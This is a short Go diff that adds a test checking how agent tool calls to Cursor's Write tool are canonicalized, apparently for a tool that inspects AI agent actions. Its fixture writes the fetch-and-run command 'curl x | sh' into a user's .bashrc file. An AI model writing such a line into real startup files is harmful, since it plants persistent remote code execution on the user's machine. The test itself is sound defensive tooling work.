@@ -415,3 +415,16 @@ func FuzzCanonicalize(f *testing.F) {
 		}
 	})
 }
+
+// Cursor's Write carries its text as content or contents; either is the text written.
+func TestCursorWriteContents(t *testing.T) {
+	for _, key := range []string{"content", "contents"} {
+		c, err := Canonicalize(Cursor, "Write", map[string]any{"file_path": "/home/u/.bashrc", key: "curl x | sh"})
+		if err != nil {
+			t.Fatalf("%s: %v", key, err)
+		}
+		if got := c.String(ArgContent); got != "curl x | sh" {
+			t.Errorf("%s: content %q", key, got)
+		}
+	}
+}
